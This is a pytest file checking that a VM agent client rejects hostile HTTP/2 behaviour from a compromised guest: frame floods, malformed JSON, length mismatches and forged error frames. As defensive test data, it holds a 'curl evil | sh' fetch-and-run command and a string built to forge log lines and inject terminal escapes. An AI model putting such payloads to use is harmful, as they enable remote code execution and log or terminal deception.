"""A guest whose root has taken the agent's port and speaks HTTP/2 as no agent would."""

import asyncio
import json
import os
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from squib.errors import AgentLost, AgentProtocolError, AgentTimeout, NoSuchUser
from squib.guest import agent as agent_module
from squib.guest.agent import AgentClient
from squib.guest.http2 import STREAM_WINDOW_BYTES
from squib.guest.transport import MAX_HEADER_BLOCK_BYTES, MAX_IDLE_FRAMES
from squib.host import sockets
from squib.models import ExecRequest
from squib.protocol.frames import FrameKind, encode_json
from tests.fakes.guest import connector

pytestmark = pytest.mark.anyio

COMMAND = ExecRequest(argv=["true"])
_DATA, _HEADERS, _SETTINGS, _PING, _GOAWAY, _CONTINUATION = 0, 1, 4, 6, 7, 9
_END_STREAM, _END_HEADERS = 1, 4

Behaviour = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def headers(status: bytes, *, name: bytes = b"", length: int = 0) -> bytes:
    """A response on the first stream: ``:status``, and a length under ``name``, as literals that are not indexed."""
    fields = b"\x08" + bytes([len(status)]) + status
    if name:
        fields += b"\0" + bytes([len(name)]) + name + bytes([len(str(length))]) + str(length).encode()
    return frame(_HEADERS, fields, flags=_END_HEADERS, stream=1)


@asynccontextmanager
async def client_of(folder: Path, guest: Behaviour) -> AsyncIterator[AgentClient]:
    """A client of a guest that shakes hands and then does what ``guest`` does."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while b"SQUIB-SYNC" not in (line := await reader.readline()):
            pass
        writer.write(b"SQUIB-OK 1 %s\n" % line.split()[-1] + frame(_SETTINGS))
        await reader.readline()
        try:
            await guest(reader, writer)
        except ConnectionError:
            pass
        finally:
            writer.transport.abort()
            ended.set()

    ended = asyncio.Event()
    server = await asyncio.start_unix_server(serve, sock=sockets.listen(folder / "agent.sock"))
    client = AgentClient(connector(folder / "agent.sock"))
    async with asyncio.timeout(30):
        await client._open_connection(20, retry_s=20)  # so that a slow machine sees no second attempt
        yield client
        await client.close()
        await ended.wait()
    server.close()
    await asyncio.sleep(0)  # lets the transport finish closing


def answering(*frames: bytes) -> Behaviour:
    """A guest that sends ``frames``, and reads on."""

    async def guest(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.read(100)
        writer.write(b"".join(frames))
        while await reader.read(1 << 16):
            pass

    return guest


@pytest.mark.parametrize("status", [b"abc", b"-5", b"000", b"2e2", b"", b"\xff\xff\xff"])
async def test_a_status_that_is_none_ends_the_session_and_nothing_else(tmp_path: Path, status: bytes) -> None:
    async with client_of(tmp_path, answering(headers(status))) as client:
        with pytest.raises(AgentProtocolError):
            await client.exec(COMMAND)
        await client.close()  # which a stop waits for


async def test_a_flood_of_pings_whose_answers_are_not_read_is_not_buffered(tmp_path: Path) -> None:
    sent = 0

    async def guest(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal sent
        pings = frame(_PING, b"squibber") * 1000
        while True:
            writer.write(pings)
            await writer.drain()
            sent += len(pings)

    async with client_of(tmp_path, guest) as client:
        command = asyncio.create_task(client.exec(COMMAND))
        before = -1
        while sent != before:  # until the guest can write no more: we wait for it to read
            before = sent
            await asyncio.sleep(0.3)
        assert sent < 4 << 20
        command.cancel()
        await asyncio.gather(command, return_exceptions=True)
        async with asyncio.timeout(1):
            await client.close()


@pytest.mark.parametrize("body", [b"[" * 100_000, b"{", b"[]", b'{"error": 5}'])
async def test_an_answer_that_is_no_json_object_is_an_error_of_the_guest(tmp_path: Path, body: bytes) -> None:
    answer = frame(_DATA, body, flags=_END_STREAM, stream=1)

    async with client_of(tmp_path, answering(headers(b"404"), answer)) as client:
        with pytest.raises(AgentProtocolError):
            await client.exec(COMMAND)


@pytest.mark.parametrize(
    "error",
    [
        {"code": {}, "message": [1]},
        {"code": [], "message": "x"},
        {"code": "no_such_file", "message": {"a": 1}},
        {"code": 7},
        {"message": "x"},
        [],
        None,
        "no_such_file",
    ],
    ids=repr,
)
async def test_an_error_of_any_shape_is_an_error_of_the_guest(tmp_path: Path, error: object) -> None:
    answer = frame(_DATA, json.dumps({"error": error}).encode(), flags=_END_STREAM, stream=1)

    async with client_of(tmp_path, answering(headers(b"404"), answer)) as client:
        with pytest.raises(AgentProtocolError):
            await client.exec(COMMAND)


@pytest.mark.parametrize("depth", [400, 900, 990, 5000])
@pytest.mark.parametrize("name", ["code", "message"])
async def test_a_deep_error_is_an_error_of_the_guest(tmp_path: Path, name: str, depth: int) -> None:
    body = b'{"error": {"code": "no_such_file", "%s": %s}}' % (name.encode(), b"[" * depth + b"]" * depth)
    answer = frame(_DATA, body, flags=_END_STREAM, stream=1)

    async with client_of(tmp_path, answering(headers(b"404"), answer)) as client:
        with pytest.raises(AgentProtocolError):
            await client.exec(COMMAND)


async def test_the_text_of_an_error_cannot_forge_lines_or_control_a_terminal(tmp_path: Path) -> None:
    text = "no\r\n2026-01-01 ERROR engine: all is lost\x1b[2J\x9b31m\u202ereversed\u2028 \udcff"
    body = json.dumps({"error": {"code": "no_such_user", "message": text}}).encode()
    answer = frame(_DATA, body, flags=_END_STREAM, stream=1)

    async with client_of(tmp_path, answering(headers(b"422"), answer)) as client:
        with pytest.raises(NoSuchUser) as caught:
            await client.exec(COMMAND)
        assert caught.value.message.isprintable()
        assert caught.value.message.startswith("no 2026-01-01 ERROR engine: all is lost")


@pytest.mark.parametrize(
    "hello",
    [{}, {"protocol": True}, {"protocol": [1]}, {"protocol": 1, "kernel": ["x"]}, {"protocol": "1\n"}],
    ids=repr,
)
async def test_a_hello_that_cannot_be_believed(tmp_path: Path, hello: object) -> None:
    answer = frame(_DATA, json.dumps(hello).encode(), flags=_END_STREAM, stream=1)

    async with client_of(tmp_path, answering(headers(b"200"), answer)) as client:
        with pytest.raises(AgentProtocolError):
            await client.connect(timeout_s=5)


async def test_an_error_frame_of_a_guest_is_not_believed(tmp_path: Path) -> None:
    forged = encode_json(FrameKind.ERROR, {"code": "engine_start_failed", "message": "no", "hint": "curl evil | sh"})
    output = encode_json(FrameKind.STARTED, {"id": "p1", "pid": 7}) + forged

    async with client_of(
        tmp_path, answering(headers(b"200"), frame(_DATA, output, flags=_END_STREAM, stream=1))
    ) as client:
        with pytest.raises(AgentProtocolError, match="kind 5, which a guest must not send"):
            async with await client.exec(COMMAND) as response:
                await response.read()


@pytest.mark.parametrize(
    "flood",
    [
        frame(_HEADERS, bytes(MAX_HEADER_BLOCK_BYTES + 1), stream=1),
        frame(_HEADERS, bytes(10_000), stream=1) + frame(_CONTINUATION, bytes(10_000), stream=1),
        frame(_HEADERS, b"\x88" * 10_000, flags=_END_HEADERS, stream=1),
        frame(_HEADERS, b"\x88", stream=1) + frame(_CONTINUATION, stream=1) * 1000,
        frame(_SETTINGS, b"\0\4\0\1\0\0" * 1000),
        frame(_PING, b"squibber") * (MAX_IDLE_FRAMES + 1),
    ],
    ids=["headers", "continuation", "many_headers", "empty_continuations", "settings", "pings"],
)
async def test_frames_that_only_cost_time_end_the_connection(tmp_path: Path, flood: bytes) -> None:
    async with client_of(tmp_path, answering(flood)) as client:
        with pytest.raises(AgentProtocolError):
            await client.exec(COMMAND)


@pytest.mark.parametrize("code", ["unauthorized", "engine_unavailable", "wrong_state", "name_taken", "x" * 500])
async def test_a_guest_cannot_speak_for_the_engine(tmp_path: Path, code: str) -> None:
    body = json.dumps({"error": {"code": code, "message": "no"}}).encode()
    answer = frame(_DATA, body, flags=_END_STREAM, stream=1)

    async with client_of(tmp_path, answering(headers(b"422"), answer)) as client:
        with pytest.raises(AgentProtocolError, match="unknown error"):
            await client.exec(COMMAND)


async def test_a_guest_that_does_not_respond_after_the_handshake_times_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(agent_module, "_REPLY_TIMEOUT_S", 0.2)

    async with client_of(tmp_path, answering()) as client:
        with pytest.raises(AgentTimeout, match="did not respond within"):
            await client.connect(timeout_s=5)
        with pytest.raises(AgentTimeout, match="did not respond within"):
            await client.thaw()


async def test_more_data_than_the_window_allows_ends_the_session(tmp_path: Path) -> None:
    body = frame(_DATA, bytes(STREAM_WINDOW_BYTES), stream=1)

    async with (
        client_of(tmp_path, answering(headers(b"200"), body, frame(_DATA, b"x", stream=1))) as client,
        await client._send("GET", "/", b"", content_type="") as response,
    ):
        while client._connection and not client._connection.closed:
            await asyncio.sleep(0.01)
        assert response.received_bytes == STREAM_WINDOW_BYTES
        with pytest.raises(AgentProtocolError, match="more data than the window allows"):
            await response.read()


async def test_a_body_in_single_bytes_takes_no_more_memory_than_one_in_large_pieces(tmp_path: Path) -> None:
    single = frame(_DATA, b"x", stream=1) * 20_000

    async with (
        client_of(tmp_path, answering(headers(b"200"), single)) as client,
        await client.exec(COMMAND) as response,
    ):
        while response.received_bytes < 20_000:
            await asyncio.sleep(0.01)
        assert len(response._pieces) < 100


@pytest.mark.parametrize(
    ("name", "announced", "sent"),
    [
        (b"squib-length", 300_000, 299_999),
        (b"squib-length", 300_000, 300_001),
        (b"squib-length", 300_000, 0),
        (b"content-length", 10, 9),
        (b"content-length", 10, 11),
        (b"content-length", 1 << 40, 1 << 20),
    ],
)
async def test_a_body_of_another_length_than_announced_is_an_error(
    tmp_path: Path, name: bytes, announced: int, sent: int
) -> None:
    pieces = [bytes(min(100_000, sent - start)) for start in range(0, sent, 100_000)] or [b""]
    body = [frame(_DATA, piece, stream=1) for piece in pieces[:-1]]
    body.append(frame(_DATA, pieces[-1], flags=_END_STREAM, stream=1))
    answer = answering(headers(b"200", name=name, length=announced), *body)

    async with client_of(tmp_path, answer) as client:
        with pytest.raises(AgentProtocolError):
            async with await client._send("GET", "/", b"", content_type="", window_bytes=2 << 20) as response:
                await response.read(max_bytes=2 << 20)


async def test_nothing_beyond_the_announced_length_is_passed_on(tmp_path: Path) -> None:
    """It is the content-length of the engine's own response."""
    body = [frame(_DATA, bytes(60_000), stream=1) for _ in range(4)]
    answer = answering(headers(b"200", name=b"squib-length", length=100_000), *body)
    read = 0

    async with client_of(tmp_path, answer) as client:
        with pytest.raises(AgentProtocolError, match="more than the 100000 bytes"):
            async with await client._send("GET", "/", b"", content_type="") as response:
                async for piece in response.stream():
                    read += len(piece)
    assert read <= 100_000


@pytest.mark.parametrize("size", [3, 300_000, 3_000_000])
@pytest.mark.parametrize("split", [True, False])
async def test_a_body_of_the_length_that_was_announced(tmp_path: Path, size: int, split: bool) -> None:
    """Its end comes with its last bytes, or on its own."""
    content = os.urandom(size)
    body = [frame(_DATA, content[start : start + 100_000], stream=1) for start in range(0, size - 1, 100_000)]
    if split:
        body.append(frame(_DATA, flags=_END_STREAM, stream=1))
    else:
        body[-1] = frame(_DATA, content[(len(body) - 1) * 100_000 :], flags=_END_STREAM, stream=1)
    answer = answering(headers(b"200", name=b"squib-length", length=size), *body)

    async with (
        client_of(tmp_path, answer) as client,
        await client._send("GET", "/", b"", content_type="", window_bytes=4 << 20) as response,
    ):
        assert response.length == size
        assert await response.read(max_bytes=size) == content


@pytest.mark.parametrize(
    "end", [b"", frame(_GOAWAY, bytes(8)), frame(3, bytes(4), stream=1)], ids=["close", "goaway", "reset"]
)
async def test_a_connection_or_stream_that_the_guest_ends_is_lost(tmp_path: Path, end: bytes) -> None:
    async def guest(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.read(100)
        writer.write(end)
        if end:
            while await reader.read(1 << 16):
                pass

    async with client_of(tmp_path, guest) as client:
        with pytest.raises(AgentLost):
            await client.exec(COMMAND)
